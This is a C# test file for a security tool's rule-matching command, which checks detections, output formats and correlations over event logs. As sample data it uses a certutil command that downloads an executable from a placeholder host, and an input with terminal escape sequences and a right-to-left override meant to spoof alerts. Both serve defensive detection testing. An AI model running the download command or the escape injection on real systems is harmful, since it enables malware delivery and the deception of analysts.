using System.Text;
using System.Text.Json;
using Soc.Cli.Tests.Commands;

namespace Soc.Cli.Tests.Rules;

public sealed class MatchCommandTests : IDisposable
{
    private const string Fetch = "certutil -urlcache -f https://files.example.net/a.exe a.exe";

    private readonly SocRun _soc = new();

    public void Dispose() => _soc.Dispose();

    private string Rules => _soc.WriteRule("certutil", RuleDesk.Certutil);

    [Fact]
    public async Task A_match_names_rule_file_line_and_what_matched()
    {
        var file = _soc.Write("events.jsonl", $"{RuleDesk.Process("certutil -hashfile a")}\n{RuleDesk.Process(Fetch)}\n");
        var ran = (await _soc.Run("rules", "match", Rules, "events.jsonl")).Succeeded();
        Assert.StartsWith($"[High] Certutil fetches a file  events.jsonl:2  Image=C:\\Windows\\System32\\certutil.exe  CommandLine={Fetch}\n", ran.Output, StringComparison.Ordinal);
        Assert.Matches(@"\n2 records in .* records/s\): 1 match of 1 rule\.\n +1  High +Certutil fetches a file\n$", ran.Output);
        Assert.True(File.Exists(file));
    }

    [Fact]
    public async Task As_json_standard_output_holds_nothing_but_matches()
    {
        var ran = await _soc.RunWith(RuleDesk.Process(Fetch), interactive: false, "rules", "match", Rules, "-", "--format", "json");
        Assert.Equal(0, ran.Code);
        var match = JsonElement.Parse(Assert.Single(ran.Output.TrimEnd('\n').Split('\n')));
        Assert.Equal((RuleDesk.CertutilId, "stdin", 1), (match.GetProperty("rule").GetString(), match.GetProperty("file").GetString(), match.GetProperty("line").GetInt32()));
        Assert.Contains("1 match of 1 rule", ran.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_file_gets_the_matches_and_the_terminal_the_summary()
    {
        _soc.Write("events.jsonl", RuleDesk.Process(Fetch));
        var ran = (await _soc.RunWith("", interactive: true, "rules", "match", Rules, "events.jsonl", "--format", "csv", "--output", "out.csv")).Succeeded();
        Assert.Contains("1 match of 1 rule", ran.Output, StringComparison.Ordinal);
        var lines = await File.ReadAllLinesAsync(_soc.PathOf("out.csv"), TestContext.Current.CancellationToken);
        Assert.Equal("file,line,level,rule,title,fields", lines[0]);
        Assert.StartsWith($"events.jsonl,1,High,{RuleDesk.CertutilId},Certutil fetches a file,", Assert.Single(lines[1..]), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Event_Hubs_messages_are_opened_and_each_record_keeps_its_line()
    {
        _soc.Write("hub.json", $"{{\"records\":[\n{RuleDesk.Process("certutil")},\n{RuleDesk.Process(Fetch)}\n]}}");
        var ran = (await _soc.Run("rules", "match", Rules, "hub.json")).Succeeded();
        Assert.Contains("  hub.json:3  ", ran.Output, StringComparison.Ordinal);
        Assert.Contains("2 records in ", ran.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_file_longer_than_any_buffer_is_read_to_its_end()
    {
        const int Many = 4_000;
        var harmless = RuleDesk.Process("certutil -dump " + new string('x', 300));
        await using (var writer = new StreamWriter(_soc.PathOf("long.jsonl")))
            for (var line = 1; line <= Many; line++) await writer.WriteAsync((line % 1_000 == 0 ? RuleDesk.Process(Fetch) : harmless) + "\n");
        Assert.True(new FileInfo(_soc.PathOf("long.jsonl")).Length > 16 * 64 * 1024);
        var ran = (await _soc.Run("rules", "match", Rules, "long.jsonl", "long.jsonl")).Succeeded();
        Assert.Equal(8, ran.Output.Split('\n').Count(line => line.StartsWith("[High]", StringComparison.Ordinal)));
        Assert.Contains($"long.jsonl:{Many}  ", ran.Output, StringComparison.Ordinal);
        Assert.Contains("8,000 records in ", ran.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_matched_is_written_before_the_input_ends()
    {
        var output = new StringWriter();
        var input = new TwoPieces(RuleDesk.Process(Fetch) + "\n", RuleDesk.Process("certutil"), () => output.ToString());
        var terminal = new Hosting.Terminal(() => input, TextReader.Null, output, TextWriter.Null, Interactive: false, Width: 80, _soc.Folder, TimeProvider.System);
        Assert.Equal(0, await new Cli.Commands.SocCommandLine(terminal).Run(["rules", "match", Rules, "-"], TestContext.Current.CancellationToken));
        Assert.StartsWith("[High] Certutil fetches a file", input.WrittenBefore, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Records_of_no_known_log_source_are_counted()
    {
        _soc.Write("events.jsonl", $"{RuleDesk.Process(Fetch)}\n{{\"a\":1}}\n[7]\n");
        var ran = (await _soc.Run("rules", "match", Rules, "events.jsonl")).Succeeded();
        Assert.EndsWith("No log source was recognized for 2 of the records; no rule was tried on them.\n", ran.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Broken_json_is_one_line_with_file_line_and_byte()
    {
        var good = RuleDesk.Process("certutil") + "\n";
        _soc.Write("events.jsonl", good + "{\"a\": 1,}\n");
        (await _soc.Run("rules", "match", Rules, "events.jsonl")).FailedWith(2, $"events.jsonl: line 2, byte {good.Length + 8}: ");
    }

    [Fact]
    public async Task Broken_json_leaves_an_older_output_as_it_was()
    {
        _soc.Write("events.jsonl", RuleDesk.Process(Fetch) + "\n{\"a\"");
        var output = _soc.Write("out.json", "older");
        (await _soc.Run("rules", "match", Rules, "events.jsonl", "--format", "json", "-o", "out.json")).FailedWith(2, "events.jsonl: line 2, byte ");
        Assert.Equal("older", await File.ReadAllTextAsync(output, TestContext.Current.CancellationToken));
        Assert.False(File.Exists(output + ".new"));
    }

    [Fact]
    public async Task A_correlation_is_told_once_all_files_are_read()
    {
        _soc.WriteRule("repeated", RuleDesk.Repeated);
        _soc.Write("late.jsonl", RuleDesk.Process(Fetch, "2026-11-17 08:05:00.000") + "\n" + RuleDesk.Process(Fetch, "2026-11-17 08:05:00.000", "ws-02.example.org"));
        _soc.Write("early.jsonl", RuleDesk.Process(Fetch, "2026-11-17 08:01:00.000") + "\n" + RuleDesk.Process(Fetch, "2026-11-17 08:09:00.000"));
        var ran = (await _soc.Run("rules", "match", Rules, "late.jsonl", "early.jsonl")).Succeeded();
        Assert.StartsWith("[Critical] Certutil fetches again and again  Computer=ws-01.example.org; number=3; first=2026-11-17T08:01:00Z; last=2026-11-17T08:09:00Z\n", ran.Output, StringComparison.Ordinal);
        Assert.Contains("1 match of 1 rule.", ran.Output, StringComparison.Ordinal);
        var json = await _soc.Run("rules", "match", "rules", "late.jsonl", "early.jsonl", "--format", "json");
        Assert.Equal(3, JsonElement.Parse(json.Output).GetProperty("events").GetArrayLength());
        var csv = await _soc.Run("rules", "match", "rules", "late.jsonl", "early.jsonl", "--format", "csv");
        Assert.Contains("\n,,Critical,9a7b6c5d-4e3f-4a2b-8c1d-0e9f8a7b6c5d,Certutil fetches again and again,Computer=ws-01.example.org; ", csv.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_correlation_cannot_count_what_says_no_time()
    {
        _soc.WriteRule("repeated", RuleDesk.Repeated);
        _soc.Write("events.jsonl", string.Join('\n', Enumerable.Repeat(RuleDesk.Process(Fetch, "once"), 3)));
        var ran = (await _soc.Run("rules", "match", Rules, "events.jsonl")).Succeeded();
        Assert.Contains("0 matches", ran.Output, StringComparison.Ordinal);
        Assert.EndsWith("3 of the matched records say no time that correlations could use.\n", ran.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("text")]
    [InlineData("json")]
    [InlineData("csv")]
    public async Task What_an_attacker_wrote_neither_steers_the_terminal_nor_begins_a_line(string format)
    {
        _soc.Write("events.jsonl", RuleDesk.Process("certutil urlcache \u001b]0;owned\u0007\u001b[2J\u202Egpj.exe\r\n[Critical] fake"));
        var ran = await _soc.Run("rules", "match", Rules, "events.jsonl", "--format", format);
        Assert.Equal(0, ran.Code);
        Assert.DoesNotMatch(@"[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E]", ran.Output);
        Assert.DoesNotContain(ran.Output.Split('\n'), line => line.StartsWith("[Critical]", StringComparison.Ordinal));
    }

    [Fact]
    public async Task At_a_terminal_a_bar_runs_and_the_matches_stay()
    {
        _soc.Write("events.jsonl", RuleDesk.Process(Fetch));
        var ran = (await _soc.RunWith("", interactive: true, "rules", "match", Rules, "events.jsonl")).Succeeded();
        Assert.Contains("Certutil fetches a file", ran.Output, StringComparison.Ordinal);
        Assert.Contains("1 match of 1 rule", ran.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_rule_that_cannot_be_read_is_named_and_the_others_go_on()
    {
        _soc.WriteRule("bad", "title: Nothing else");
        _soc.WriteRule("inbox", RuleDesk.NewRule);
        _soc.Write("events.jsonl", RuleDesk.Process(Fetch));
        var ran = await _soc.Run("rules", "match", Rules, "events.jsonl");
        Assert.Equal(0, ran.Code);
        Assert.Contains("soc: rules/bad.yml:1: ", ran.Error, StringComparison.Ordinal);
        Assert.Contains("soc: 1 rule of 2 ask for soc.*", ran.Error, StringComparison.Ordinal);
        Assert.Contains("1 match of 1 rule", ran.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_is_not_there_is_wrong_input()
    {
        var rules = Rules;
        (await _soc.Run("rules", "match", rules, "gone.jsonl")).FailedWith(2, "gone.jsonl: there is no such file.");
        (await _soc.Run("rules", "match", rules, "rules")).FailedWith(2, "rules is a folder, not a file.");
        (await _soc.Run("rules", "match", rules, "gone.jsonl", "--format", "xml")).FailedWith(2, "xml");
        _soc.Write("rules/certutil.yml", RuleDesk.Repeated);
        var ran = await _soc.Run("rules", "match", rules, "rules/certutil.yml");
        Assert.Equal((2, ""), (ran.Code, ran.Output));
        Assert.EndsWith("soc: rules: there is no rule that can be used.\n", ran.Error, StringComparison.Ordinal);
    }

    /// <summary>Notes what stood on the output when the second piece was asked for.</summary>
    private sealed class TwoPieces(string first, string second, Func<string> written) : MemoryStream
    {
        private readonly Queue<string> _pieces = new([first, second]);

        public string WrittenBefore { get; private set; } = "";

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default)
        {
            if (_pieces.Count == 1) WrittenBefore = written();
            return new(_pieces.TryDequeue(out var piece) ? Encoding.UTF8.GetBytes(piece, buffer.Span) : 0);
        }
    }
}
